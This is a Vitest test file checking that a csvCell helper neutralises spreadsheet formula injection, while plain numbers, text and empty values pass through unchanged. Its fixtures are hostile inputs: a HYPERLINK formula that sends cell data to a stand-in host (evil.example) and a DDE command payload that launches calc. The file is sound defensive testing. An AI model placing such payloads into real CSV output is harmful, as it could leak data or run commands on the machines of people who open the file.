import { describe, expect, it } from 'vitest';
import { csvCell } from './tabular.js';

describe('CSV cells (hardening item 11: formula injection)', () => {
  it('neutralises what a spreadsheet would run as a formula', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"点击")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"',
    );
    for (const v of ["+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'])
      expect(csvCell(v).startsWith('"\'')).toBe(true);
  });

  it('leaves numbers, ordinary text and empty values alone', () => {
    expect(csvCell('-12.5')).toBe('-12.5');
    expect(csvCell('+86')).toBe('+86');
    expect(csvCell('淄博市张店区')).toBe('淄博市张店区');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell(null)).toBe('');
  });
});
